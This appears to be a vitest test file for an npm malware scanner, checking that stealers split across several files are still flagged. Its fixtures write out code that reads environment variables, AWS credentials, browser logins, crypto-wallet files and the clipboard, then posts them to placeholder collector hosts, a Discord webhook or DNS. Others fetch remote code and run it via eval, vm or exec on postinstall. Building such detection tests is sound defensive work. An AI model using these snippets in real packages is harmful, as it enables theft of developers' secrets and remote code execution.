import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { rules } from '../../rules/index.ts'
import { verdictOf } from '../../src/analyze/verdict.ts'
import { analyzeCase } from '../../src/rule-tester/index.ts'
import type { Finding, Verdict } from '../../src/types.ts'

/**
 * Data flow across the files of a package (flow.ts, module-summary.ts): a stealer split into a
 * collecting module, an uploading module and an entry point that joins them must meet the same
 * rules as the same code in one file, with the finding at the sink and the other end named.
 */

const MANIFEST = { name: 'fixture', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node index.js' } }

async function scan(files: Record<string, string>, manifest: Record<string, unknown> = MANIFEST): Promise<{ findings: Finding[]; verdict: Verdict; critical: Set<string> }> {
  const { findings, errors } = await analyzeCase({ files, manifest }, rules)
  expect(errors).toEqual([])
  return { findings, verdict: verdictOf(findings), critical: new Set(findings.filter((f) => f.severity === 'critical').map((f) => f.ruleId)) }
}

const show = (findings: Finding[]) => findings.map((f) => `${f.severity} ${f.ruleId} ${f.file}:${f.line} ${f.message}`).join('\n')

interface Source {
  name: string
  rule: string
  /** A module exporting `collect()`, which returns the sensitive value. */
  module: string
  /** The same value computed in the entry file: declarations, then the expression. */
  prelude: string
  expr: string
}
interface Sink {
  name: string
  /** A module exporting `send(data)`, which hands `data` to the sink. */
  module: string
  /** The same sink written in the entry file around an expression. */
  local: (data: string) => string
}

const FS = "const fs = require('fs')\nconst os = require('os')\nconst path = require('path')\n"
const readAt = (parts: string) => `fs.readFileSync(path.join(os.homedir(), ${parts}), 'utf8')`

const SOURCES: Source[] = [
  { name: 'the whole environment', rule: 'env-exfiltration', module: 'module.exports.collect = () => ({ ...process.env })', prelude: '', expr: '({ ...process.env })' },
  {
    name: 'the host fingerprint',
    rule: 'host-fingerprint-exfiltration',
    module: "const os = require('os')\nmodule.exports.collect = () => ({ host: os.hostname(), user: os.userInfo().username })",
    prelude: "const os = require('os')\n",
    expr: '({ host: os.hostname(), user: os.userInfo().username })',
  },
  { name: 'a wallet file', rule: 'wallet-harvesting', module: `${FS}exports.collect = () => ${readAt("'.config', 'solana', 'id.json'")}`, prelude: FS, expr: readAt("'.config', 'solana', 'id.json'") },
  {
    name: 'a browser credential store',
    rule: 'browser-credential-theft',
    module: `${FS}exports.collect = () => ${readAt("'Library/Application Support/Google/Chrome/Default/Login Data'")}`,
    prelude: FS,
    expr: readAt("'Library/Application Support/Google/Chrome/Default/Login Data'"),
  },
  { name: 'a credential file', rule: 'credential-file-theft', module: `${FS}exports.collect = () => ${readAt("'.aws', 'credentials'")}`, prelude: FS, expr: readAt("'.aws', 'credentials'") },
  {
    name: 'the clipboard',
    rule: 'clipboard-access',
    module: "const { execSync } = require('child_process')\nexports.collect = () => execSync('pbpaste').toString()",
    prelude: "const { execSync } = require('child_process')\n",
    expr: "execSync('pbpaste').toString()",
  },
]

const WEBHOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789'
const SINKS: Sink[] = [
  {
    name: 'https.request',
    module: "const https = require('https')\nexports.send = (data) => {\n  const req = https.request('https://collector.example.invalid/upload', { method: 'POST' })\n  req.end(JSON.stringify(data))\n}",
    local: (d) => `const https = require('https')\nconst req = https.request('https://collector.example.invalid/upload', { method: 'POST' })\nreq.end(JSON.stringify(${d}))`,
  },
  {
    name: 'fetch',
    module: "exports.send = (data) => fetch('https://collector.example.invalid/u', { method: 'POST', body: JSON.stringify(data) })",
    local: (d) => `fetch('https://collector.example.invalid/u', { method: 'POST', body: JSON.stringify(${d}) })`,
  },
  {
    name: 'axios to a raw IP',
    module: "const axios = require('axios')\nexports.send = async (data) => axios.post('http://192.0.2.10:1224/uploads', { data })",
    local: (d) => `const axios = require('axios')\naxios.post('http://192.0.2.10:1224/uploads', { data: ${d} })`,
  },
  {
    name: 'a raw socket',
    module: "const net = require('net')\nexports.send = (data) => {\n  const socket = net.connect({ host: '192.0.2.20', port: 4444 })\n  socket.write(JSON.stringify(data))\n}",
    local: (d) => `const net = require('net')\nconst socket = net.connect({ host: '192.0.2.20', port: 4444 })\nsocket.write(JSON.stringify(${d}))`,
  },
  {
    name: 'a Discord webhook',
    module: `const axios = require('axios')\nexports.send = (data) => axios.post('${WEBHOOK}', { content: JSON.stringify(data) })`,
    local: (d) => `const axios = require('axios')\naxios.post('${WEBHOOK}', { content: JSON.stringify(${d}) })`,
  },
  {
    name: 'DNS lookups',
    module: "const dns = require('dns')\nexports.send = (data) => dns.lookup(Buffer.from(JSON.stringify(data)).toString('hex').slice(0, 60) + '.exfil.example.invalid', () => {})",
    local: (d) => `const dns = require('dns')\ndns.lookup(Buffer.from(JSON.stringify(${d})).toString('hex').slice(0, 60) + '.exfil.example.invalid', () => {})`,
  },
]

const runAsync = (body: string) => (d: string) => `;(async () => {\n  const code = await ${d}\n  ${body}\n})()`
const CODE_SOURCES: Source[] = [
  { name: 'a fetch response', rule: 'remote-code-execution', module: "exports.collect = () => fetch('https://cdn.example.invalid/payload.js').then((r) => r.text())", prelude: '', expr: "fetch('https://cdn.example.invalid/payload.js').then((r) => r.text())" },
  {
    name: 'an https.get body',
    rule: 'remote-code-execution',
    module: "const https = require('https')\nexports.collect = () => new Promise((resolve) => {\n  https.get('https://cdn.example.invalid/p', (res) => {\n    let body = ''\n    res.on('data', (chunk) => (body += chunk))\n    res.on('end', () => resolve(body))\n  })\n})",
    prelude: "const https = require('https')\n",
    expr: "new Promise((resolve) => { https.get('https://cdn.example.invalid/p', (res) => { let body = ''; res.on('data', (chunk) => (body += chunk)); res.on('end', () => resolve(body)) }) })",
  },
  {
    name: 'data decoded at run time',
    rule: 'dynamic-code-execution',
    module: "const fs = require('fs')\nexports.collect = () => Buffer.from(fs.readFileSync(__dirname + '/blob.txt', 'utf8'), 'base64').toString()",
    prelude: "const fs = require('fs')\n",
    expr: "Buffer.from(fs.readFileSync(__dirname + '/blob.txt', 'utf8'), 'base64').toString()",
  },
]
const CODE_SINKS: Sink[] = [
  { name: 'eval', module: 'exports.send = (code) => eval(code)', local: runAsync('eval(code)') },
  { name: 'new Function', module: "exports.send = (code) => new Function('require', code)(require)", local: runAsync("new Function('require', code)(require)") },
  { name: 'vm', module: "const vm = require('vm')\nexports.send = (code) => vm.runInNewContext(code, { require })", local: (d) => `const vm = require('vm')\n${runAsync('vm.runInNewContext(code, { require })')(d)}` },
  { name: 'child_process', module: "const { exec } = require('child_process')\nexports.send = (command) => exec(command)", local: (d) => `const { exec } = require('child_process')\n${runAsync('exec(code)')(d)}` },
  {
    name: 'a file written, then required',
    module: "const fs = require('fs')\nconst os = require('os')\nconst path = require('path')\nexports.send = (code) => {\n  const file = path.join(os.tmpdir(), '.cache.js')\n  fs.writeFileSync(file, code)\n  require(file)\n}",
    local: (d) => `const wfs = require('fs')\nconst wos = require('os')\n${runAsync("const file = require('path').join(wos.tmpdir(), '.cache.js'); wfs.writeFileSync(file, code); require(file)")(d)}`,
  },
]

function layouts(source: Source, sink: Sink, join: string): Array<[string, Record<string, string>]> {
  return [
    ['the source in another file', { 'lib/source.js': source.module, 'index.js': `const { collect } = require('./lib/source')\n${sink.local('collect()')}` }],
    ['the sink in another file', { 'lib/sink.js': sink.module, 'index.js': `${source.prelude}const { send } = require('./lib/sink')\n${join.replace('SOURCE', source.expr)}` }],
    ['both in other files', { 'lib/source.js': source.module, 'lib/sink.js': sink.module, 'index.js': `const { collect } = require('./lib/source')\nconst { send } = require('./lib/sink')\n${join.replace('SOURCE', 'collect()')}` }],
  ]
}

describe('cross-file flows meet the rules a single file meets', () => {
  const matrix: Array<[Source[], Sink[], string]> = [
    [SOURCES, SINKS, 'send(SOURCE)'],
    [CODE_SOURCES, CODE_SINKS, ';(async () => send(await SOURCE))()'],
  ]
  for (const [sources, sinks, join] of matrix) {
    for (const source of sources) {
      for (const sink of sinks) {
        it(`${source.name} → ${sink.name}`, async () => {
          const single = await scan({ 'index.js': `${source.prelude}${sink.local(source.expr)}` })
          // The single-file version is what the rules were written for: it must be caught.
          expect(single.verdict, show(single.findings)).toBe('malicious')
          for (const [layout, files] of layouts(source, sink, join)) {
            const split = await scan(files)
            const summary = `${layout}\n${show(split.findings)}`
            expect(split.verdict, summary).toBe('malicious')
            for (const rule of single.critical) expect(split.critical.has(rule), `${rule} missing: ${summary}`).toBe(true)
            expect(split.findings.some((f) => f.message.includes('Across files')), summary).toBe(true)
          }
        })
      }
    }
  }
})

describe('where a cross-file finding points', () => {
  const collect = "const os = require('os')\nconst fs = require('fs')\n\nexports.collect = () => {\n  return fs.readFileSync(os.homedir() + '/.config/solana/id.json', 'utf8')\n}"
  const net = "const https = require('https')\n\nexports.send = (data) => {\n  const req = https.request('https://upload.example.invalid/k', { method: 'POST' })\n  req.end(data)\n}"

  it('a local sink of an imported source: at the sink, naming the source file and line', async () => {
    const { findings } = await scan({ 'lib/collect.js': collect, 'index.js': "const { collect } = require('./lib/collect')\n\nfetch('https://upload.example.invalid/k', { method: 'POST', body: collect() })" })
    const finding = findings.find((f) => f.ruleId === 'wallet-harvesting')!
    expect(finding, show(findings)).toMatchObject({ severity: 'critical', file: 'index.js', line: 3, entryKind: 'install' })
    expect(finding.message).toContain('collect() in lib/collect.js (lib/collect.js:5)')
  })

  it('an imported sink of a local source: at the sink in the other file, naming the call', async () => {
    const { findings } = await scan({ 'lib/net.js': net, 'index.js': "const os = require('os')\nconst { send } = require('./lib/net')\nsend(JSON.stringify({ ...process.env, host: os.hostname() }))" })
    const finding = findings.find((f) => f.ruleId === 'env-exfiltration')!
    expect(finding, show(findings)).toMatchObject({ severity: 'critical', file: 'lib/net.js', line: 5, entryKind: 'install' })
    expect(finding.snippet).toBe('req.end(data)')
    expect(finding.message).toContain('index.js:3 hands the data to send() in lib/net.js')
    expect(findings.find((f) => f.ruleId === 'host-fingerprint-exfiltration')).toMatchObject({ severity: 'critical', file: 'lib/net.js', line: 5 })
  })

  it('both: the sink in its file, the source and the call in the message', async () => {
    const { findings } = await scan({ 'lib/collect.js': collect, 'lib/net.js': net, 'index.js': "const { collect } = require('./lib/collect')\nconst { send } = require('./lib/net')\nsend(collect())" })
    const finding = findings.find((f) => f.ruleId === 'wallet-harvesting')!
    expect(finding, show(findings)).toMatchObject({ severity: 'critical', file: 'lib/net.js', line: 5 })
    expect(finding.message).toContain('the data comes from collect() in lib/collect.js (lib/collect.js:5); index.js:3 hands it to send() in lib/net.js')
  })

  it('a read through another file\'s reader: at the call, where the path is', async () => {
    const { findings } = await scan({
      'lib/files.js': "const fs = require('fs')\nexports.read = (file) => fs.readFileSync(file, 'utf8')",
      'index.js': "const os = require('os')\nconst { read } = require('./lib/files')\nconst key = read(os.homedir() + '/.config/solana/id.json')\nrequire('axios').post('http://192.0.2.8/k', { key })",
    })
    expect(findings.find((f) => f.ruleId === 'wallet-harvesting'), show(findings)).toMatchObject({ severity: 'critical', file: 'index.js', line: 4 })
  })
})

describe('import forms', () => {
  const envModule = 'module.exports.collect = () => ({ ...process.env })'
  const sendLine = "require('axios').post('https://collector.example.invalid', collect())"
  const cases: Array<[string, Record<string, string>]> = [
    ['a member of the required module', { 'lib/env.js': envModule, 'index.js': "const lib = require('./lib/env')\nconst collect = () => lib.collect()\n" + sendLine }],
    ['require(…).member()', { 'lib/env.js': envModule, 'index.js': "const collect = () => require('./lib/env').collect()\n" + sendLine }],
    ['a directory index', { 'lib/index.js': envModule, 'index.js': "const { collect } = require('./lib')\n" + sendLine }],
    ['a .cjs file', { 'lib/env.cjs': envModule, 'index.js': "const { collect } = require('./lib/env.cjs')\n" + sendLine }],
    ['ESM named import of an .mjs file', { 'lib/env.mjs': 'export function collect() { return { ...process.env } }', 'index.js': "import { collect } from './lib/env.mjs'\n" + sendLine }],
    ['ESM namespace import', { 'lib/env.mjs': 'export const collect = () => JSON.stringify(process.env)', 'index.js': "import * as env from './lib/env.mjs'\nconst collect = () => env.collect()\n" + sendLine }],
    ['ESM default export and import', { 'lib/env.mjs': 'export default function () { return { ...process.env } }', 'index.js': "import collect from './lib/env.mjs'\n" + sendLine }],
    ['dynamic import()', { 'lib/env.mjs': 'export const collect = () => ({ ...process.env })', 'index.js': "const { collect } = await import('./lib/env.mjs')\n" + sendLine }],
    ['module.exports = require(…) re-export', { 'lib/env.js': envModule, 'lib/index.js': "module.exports = require('./env')", 'index.js': "const { collect } = require('./lib')\n" + sendLine }],
    ['export * from', { 'lib/env.mjs': 'export const collect = () => ({ ...process.env })', 'lib/index.mjs': "export * from './env.mjs'", 'index.js': "import { collect } from './lib/index.mjs'\n" + sendLine }],
    ['export { x as y } from', { 'lib/env.mjs': 'export const gather = () => ({ ...process.env })', 'lib/index.mjs': "export { gather as collect } from './env.mjs'", 'index.js': "import { collect } from './lib/index.mjs'\n" + sendLine }],
    ['an object of functions', { 'lib/env.js': 'function gather() { return { ...process.env } }\nmodule.exports = { collect: gather }', 'index.js': "const { collect } = require('./lib/env')\n" + sendLine }],
    ['the exported value itself', { 'lib/env.js': 'module.exports = JSON.stringify(process.env)', 'index.js': "const env = require('./lib/env')\nconst collect = () => env\n" + sendLine }],
    [
      'TypeScript\'s CommonJS output',
      {
        'lib/env.js': '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nexports.collect = void 0;\nconst collect = () => ({ ...process.env });\nexports.collect = collect;',
        'lib/index.js': '"use strict";\nvar __exportStar = (this && this.__exportStar) || function (m, exports) { for (var p in m) exports[p] = m[p] };\nObject.defineProperty(exports, "__esModule", { value: true });\n__exportStar(require("./env"), exports);',
        'index.js': '"use strict";\nconst lib_1 = require("./lib");\nrequire("axios").post("https://collector.example.invalid", (0, lib_1.collect)());',
      },
    ],
    [
      'an Object.defineProperty getter re-export',
      {
        'lib/env.js': 'exports.gather = function () { return Object.assign({}, process.env) }',
        'lib/index.js': 'var env_1 = require("./env");\nObject.defineProperty(exports, "collect", { enumerable: true, get: function () { return env_1.gather; } });',
        'index.js': "const { collect } = require('./lib')\n" + sendLine,
      },
    ],
  ]
  for (const [name, files] of cases) {
    it(name, async () => {
      const manifest = Object.keys(files).some((f) => f.endsWith('.mjs')) || name.includes('import()') ? { ...MANIFEST, type: 'module' } : MANIFEST
      const { findings } = await scan(files, manifest)
      expect(findings.find((f) => f.ruleId === 'env-exfiltration' && f.severity === 'critical' && f.message.includes('Across files')), show(findings)).toBeDefined()
    })
  }
})

describe('constants from another file', () => {
  it('paths and a collector address kept in a module of constants', async () => {
    const { findings } = await scan({
      'lib/paths.js': "module.exports = {\n  solana: '.config/solana/id.json',\n  collector: 'http://192.0.2.44:1224',\n}",
      'index.js': "const fs = require('fs')\nconst os = require('os')\nconst path = require('path')\nconst P = require('./lib/paths')\nconst key = fs.readFileSync(path.join(os.homedir(), P.solana), 'utf8')\nrequire('axios').post(P.collector + '/uploads', { key, host: os.hostname() })",
    })
    expect(findings.find((f) => f.ruleId === 'wallet-harvesting'), show(findings)).toMatchObject({ severity: 'critical', file: 'index.js', line: 6, message: expect.stringContaining('Solana CLI keypair') })
    expect(findings.find((f) => f.ruleId === 'host-fingerprint-exfiltration')?.message, show(findings)).toContain('raw IP, port 1224')
  })

  it('an exported list of wallet folders walked by another file', async () => {
    const { findings } = await scan({
      'lib/targets.mjs': "export const WALLET_DIRS = ['Library/Application Support/Exodus/exodus.wallet', '.electrum/wallets']",
      'index.mjs': "import fs from 'node:fs'\nimport os from 'node:os'\nimport { WALLET_DIRS } from './lib/targets.mjs'\nconst found = []\nfor (const dir of WALLET_DIRS) found.push(fs.readdirSync(os.homedir() + '/' + dir))\nawait fetch('https://x.example.invalid/u', { method: 'POST', body: JSON.stringify(found) })",
    }, { ...MANIFEST, type: 'module', main: 'index.mjs', scripts: { postinstall: 'node index.mjs' } })
    expect(findings.find((f) => f.ruleId === 'wallet-harvesting'), show(findings)).toMatchObject({ severity: 'critical' })
  })
})

describe('chains and cycles', () => {
  it('a source three files away (A → B → C)', async () => {
    const { findings } = await scan({
      'lib/c.js': "const fs = require('fs')\nconst os = require('os')\nexports.read = () => fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8')",
      'lib/b.js': "const { read } = require('./c')\nexports.gather = () => ({ aws: read(), at: Date.now() })",
      'index.js': "const { gather } = require('./lib/b')\nfetch('http://198.51.100.7/x', { method: 'POST', body: JSON.stringify(gather()) })",
    })
    const finding = findings.find((f) => f.ruleId === 'credential-file-theft')!
    expect(finding, show(findings)).toMatchObject({ severity: 'critical', file: 'index.js', line: 2 })
    expect(finding.message).toContain('gather() in lib/b.js → read() in lib/c.js (lib/c.js:3)')
  })

  it('a sink three files away (A → B → C), through an encoder', async () => {
    const { findings } = await scan({
      'lib/c.js': "const https = require('https')\nexports.post = (d) => https.request({ hostname: '203.0.113.9', path: '/u', method: 'POST' }).end(d)",
      'lib/b.js': "const { post } = require('./c')\nexports.upload = (x) => post(Buffer.from(JSON.stringify(x)).toString('base64'))",
      'index.js': "const { upload } = require('./lib/b')\nconst os = require('os')\nupload({ h: os.hostname(), u: os.userInfo().username })",
    })
    const finding = findings.find((f) => f.ruleId === 'host-fingerprint-exfiltration')!
    expect(finding, show(findings)).toMatchObject({ severity: 'critical', file: 'lib/c.js', line: 2 })
    expect(finding.message).toContain('index.js:3 hands the data to upload() in lib/b.js → post() in lib/c.js')
  })

  it('a chain longer than the bound stops following, without error', async () => {
    const files: Record<string, string> = { 'lib/m0.js': "exports.f = () => ({ ...process.env })" }
    for (let i = 1; i <= 12; i++) files[`lib/m${i}.js`] = `const { f: g } = require('./m${i - 1}')\nexports.f = () => g()`
    const near = await scan({ ...files, 'index.js': "const { f } = require('./lib/m5')\nrequire('axios').post('https://x.example.invalid', f())" })
    expect(near.critical.has('env-exfiltration'), show(near.findings)).toBe(true)
    const far = await scan({ ...files, 'index.js': "const { f } = require('./lib/m12')\nrequire('axios').post('https://x.example.invalid', f())" })
    expect(far.critical.has('env-exfiltration'), show(far.findings)).toBe(false)
  })

  it('a two-file cycle terminates and keeps the flows that do not depend on it', async () => {
    const { findings } = await scan({
      'lib/a.js': "const b = require('./b')\nexports.collect = () => ({ ...process.env })\nexports.later = () => b.send(exports)",
      'lib/b.js': "const a = require('./a')\nconst https = require('https')\nexports.send = (d) => https.request('https://collector.example.invalid').end(JSON.stringify(d))\nexports.again = () => a.collect()",
      'index.js': "const { collect } = require('./lib/a')\nconst { send } = require('./lib/b')\nsend(collect())",
    })
    expect(findings.find((f) => f.ruleId === 'env-exfiltration' && f.severity === 'critical'), show(findings)).toBeDefined()
  })

  it('a three-file cycle with re-exports terminates', async () => {
    await scan({
      'a.js': "module.exports = require('./b')\nexports.x = () => process.env",
      'b.js': "export * from './c.js'\nexport const y = 1",
      'c.js': "export * from './a.js'\nimport { x } from './a.js'\nexport const z = () => fetch('https://e.example.invalid', { body: JSON.stringify(x()) })",
      'index.js': "require('./a')",
    })
  })
})

describe('benign look-alikes split across files', () => {
  const notFlagged = async (files: Record<string, string>, manifest?: Record<string, unknown>) => {
    const { findings, verdict } = await scan(files, manifest)
    expect(verdict, show(findings)).not.toBe('malicious')
    const flowRules = new Set(['env-exfiltration', 'host-fingerprint-exfiltration', 'wallet-harvesting', 'browser-credential-theft', 'credential-file-theft', 'remote-code-execution', 'dynamic-code-execution', 'dns-exfiltration', 'clipboard-access'])
    expect(findings.filter((f) => flowRules.has(f.ruleId) && (f.severity === 'high' || f.severity === 'critical')), show(findings)).toEqual([])
    return findings
  }
  const server = { ...MANIFEST, scripts: {} }

  it('a config module exporting process.env.PORT for an HTTP server', async () => {
    await notFlagged({
      'config.js': "module.exports = { port: Number(process.env.PORT) || 3000, dbUrl: process.env.DATABASE_URL }",
      'index.js': "const http = require('http')\nconst config = require('./config')\nhttp.createServer((req, res) => res.end('ok')).listen(config.port)",
    }, server)
  })

  it('a config module exporting the whole environment, of which single keys are used', async () => {
    await notFlagged({
      'config.js': 'module.exports = process.env',
      'index.js': "const config = require('./config')\nfetch(config.API_URL + '/status', { headers: { authorization: 'Bearer ' + config.API_TOKEN } })",
    }, server)
  })

  it('a logger module that sends its own log lines', async () => {
    await notFlagged({
      'lib/logger.js': "const https = require('https')\nconst LOG_URL = process.env.LOG_URL || 'https://logs.vendor.example/ingest'\nexports.log = (level, message) => {\n  const req = https.request(LOG_URL, { method: 'POST' })\n  req.end(JSON.stringify({ level, message, time: new Date().toISOString(), pid: process.pid }))\n}",
      'index.js': "const { log } = require('./lib/logger')\nconst http = require('http')\nconst port = process.env.PORT || 8080\nhttp.createServer((req, res) => { log('info', req.method + ' ' + req.url); res.end() }).listen(port, () => log('info', 'listening on ' + port))",
    }, server)
  })

  it('a dotenv-style loader used by the entry point', async () => {
    await notFlagged({
      'lib/main.js': "const fs = require('fs')\nconst path = require('path')\nfunction parse(src) {\n  const out = {}\n  for (const line of src.split('\\n')) { const m = /^([\\w.-]+)=(.*)$/.exec(line); if (m) out[m[1]] = m[2] }\n  return out\n}\nfunction config(options = {}) {\n  const file = options.path || path.resolve(process.cwd(), '.env')\n  const parsed = parse(fs.readFileSync(file, 'utf8'))\n  for (const key of Object.keys(parsed)) if (!(key in process.env)) process.env[key] = parsed[key]\n  if (options.debug) console.log(JSON.stringify(parsed))\n  return { parsed }\n}\nmodule.exports = { config, parse }",
      'index.js': "const { config } = require('./lib/main')\nconst { parsed } = config()\nfetch(process.env.API_URL + '/ping', { headers: { 'x-api-key': parsed.API_KEY } })",
    }, server)
  })

  it('an SDK whose client sends the API key it is given to its own API', async () => {
    await notFlagged({
      'lib/client.js': "const https = require('https')\nexports.createClient = (apiKey) => ({\n  track: (event) => {\n    const req = https.request({ hostname: 'api.vendor.example', path: '/v1/track', method: 'POST', headers: { authorization: 'Bearer ' + apiKey } })\n    req.end(JSON.stringify(event))\n  },\n})\nexports.send = (apiKey, body) => fetch('https://api.vendor.example/v1/events', { method: 'POST', headers: { authorization: 'Bearer ' + apiKey }, body: JSON.stringify(body) })",
      'index.js': "const { createClient, send } = require('./lib/client')\nconst client = createClient(process.env.VENDOR_API_KEY)\nclient.track({ name: 'signup' })\nsend(process.env.VENDOR_API_KEY, { name: 'login', at: Date.now() })",
    }, server)
  })

  it('first-party telemetry: hashed machine id from one file, sent by another', async () => {
    await notFlagged({
      'lib/machine.js': "const os = require('os')\nconst crypto = require('crypto')\nexports.machineId = () => crypto.createHash('sha256').update(os.hostname() + os.userInfo().username).digest('hex')\nexports.platform = () => ({ os: os.platform(), arch: os.arch(), node: process.version })",
      'lib/telemetry.js': "const https = require('https')\nexports.report = (payload) => {\n  if (process.env.VENDOR_TELEMETRY_DISABLED) return\n  const req = https.request('https://telemetry.vendor.example/v1', { method: 'POST' })\n  req.end(JSON.stringify(payload))\n}",
      'index.js': "const { machineId, platform } = require('./lib/machine')\nconst { report } = require('./lib/telemetry')\nreport({ id: machineId(), ...platform(), event: 'install' })",
    })
  })

  it('a Solana signer: the keypair file is read in one file, only the signature leaves from another', async () => {
    const findings = await notFlagged({
      'lib/keys.js': "const fs = require('fs')\nconst os = require('os')\nconst path = require('path')\nconst { Keypair } = require('@solana/web3.js')\nexports.loadKeypair = () => Keypair.fromSecretKey(Uint8Array.from(JSON.parse(fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json'), 'utf8'))))",
      'lib/rpc.js': "exports.submit = (rpcUrl, tx) => fetch(rpcUrl, { method: 'POST', body: JSON.stringify({ method: 'sendTransaction', params: [tx] }) })",
      'index.js': "const { loadKeypair } = require('./lib/keys')\nconst { submit } = require('./lib/rpc')\nconst signer = loadKeypair()\nconst tx = buildTransaction(signer.publicKey)\ntx.sign(signer)\nsubmit(process.argv[2], tx.serialize().toString('base64'))",
    }, { ...MANIFEST, scripts: {}, bin: { signer: 'index.js' } })
    expect(findings.find((f) => f.ruleId === 'wallet-harvesting')?.severity).toBe('medium')
  })

  it('an npm publish helper: the .npmrc token read in one file is sent to the registry by another', async () => {
    await notFlagged({
      'lib/auth.js': "const fs = require('fs')\nconst os = require('os')\nexports.token = () => /_authToken=(.*)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))[1]",
      'lib/registry.js': "exports.publish = (token, body) => fetch('https://registry.npmjs.org/some-package', { method: 'PUT', headers: { authorization: 'Bearer ' + token }, body })",
      'index.js': "const { token } = require('./lib/auth')\nconst { publish } = require('./lib/registry')\npublish(token(), JSON.stringify({ name: 'some-package' }))",
    }, { ...MANIFEST, scripts: {} })
  })

  it('a generic request helper called with ordinary data, and an exec helper with fixed commands', async () => {
    await notFlagged({
      'lib/http.js': "const https = require('https')\nexports.post = (url, body) => new Promise((resolve) => { const req = https.request(url, { method: 'POST' }, resolve); req.end(body) })",
      'lib/exec.js': "const { execSync } = require('child_process')\nexports.run = (command) => execSync(command, { stdio: 'inherit' })",
      'index.js': "const { post } = require('./lib/http')\nconst { run } = require('./lib/exec')\nrun('git rev-parse HEAD')\npost('https://api.example.com/builds', JSON.stringify({ status: 'done', version: require('./package.json').version }))",
    }, { ...MANIFEST, scripts: {} })
  })
})

describe('hostile input', () => {
  it('thousands of exports and imports stay bounded', async () => {
    const many = Array.from({ length: 5000 }, (_, i) => `exports.f${i} = (x) => fetch('https://e.example.invalid/' + x)`).join('\n')
    const calls = Array.from({ length: 5000 }, (_, i) => `lib.f${i}(process.env)`).join('\n')
    await scan({ 'lib.js': many, 'index.js': `const lib = require('./lib')\n${calls}` })
  })

  it('a star re-export fan-out over many files', async () => {
    const files: Record<string, string> = { 'm0.mjs': 'export const collect = () => ({ ...process.env })' }
    for (let i = 1; i < 200; i++) files[`m${i}.mjs`] = Array.from({ length: Math.min(i, 20) }, (_, j) => `export * from './m${i - 1 - j}.mjs'`).join('\n')
    files['index.mjs'] = "import { collect } from './m199.mjs'\nfetch('https://e.example.invalid', { method: 'POST', body: JSON.stringify(collect()) })"
    await scan(files, { ...MANIFEST, type: 'module', main: 'index.mjs' })
  })

  it('deeply nested exported objects', async () => {
    const nested = `${'{ a: '.repeat(500)}process.env${' }'.repeat(500)}`
    await scan({ 'lib.js': `module.exports = ${nested}`, 'index.js': "const lib = require('./lib')\nfetch('https://e.example.invalid', { body: JSON.stringify(lib.a.a.a) })" })
  })
})

describe('split campaign fixtures', () => {
  // fixtures/rules/campaign/m30–m32: each file alone is harmless; the verdict rests on a cross-file flow.
  for (const name of ['m30-split-env-beacon', 'm31-split-wallet-stealer', 'm32-split-loader']) {
    it(`${name} is malicious through a flow across its files`, async () => {
      const fixture = `fixtures/rules/campaign/${name}`
      const manifest = JSON.parse(readFileSync(new URL(`../../${fixture}/package.json`, import.meta.url), 'utf8')) as { name: string; version: string }
      const { findings, errors } = await analyzeCase({ fixture, ref: { name: manifest.name, version: manifest.version } }, rules)
      expect(errors).toEqual([])
      const across = findings.filter((f) => f.message.includes('Across files'))
      expect(across.some((f) => f.severity === 'critical'), show(findings)).toBe(true)
      expect(verdictOf(findings.filter((f) => !across.includes(f))), show(findings)).not.toBe('malicious')
    })
  }
})
